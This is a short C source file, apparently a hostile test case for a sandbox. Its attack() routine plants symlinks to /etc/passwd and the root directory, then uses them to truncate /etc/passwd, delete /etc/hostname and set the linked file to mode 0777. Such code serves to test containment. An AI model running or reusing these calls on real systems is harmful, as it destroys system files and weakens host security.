/* Leaves links that lead to files of the host, and changes what they lead to. */
#define _GNU_SOURCE
#include <sys/stat.h>
#include <unistd.h>
#include "hostile.h"

static void attack(unsigned char choice) {
    (void)choice;
    (void)!symlink("/etc/passwd", "out");
    (void)!symlink("/", "root");
    (void)!truncate("out", 0);
    (void)!unlink("root/etc/hostname");
    chmod("out", 0777);
}
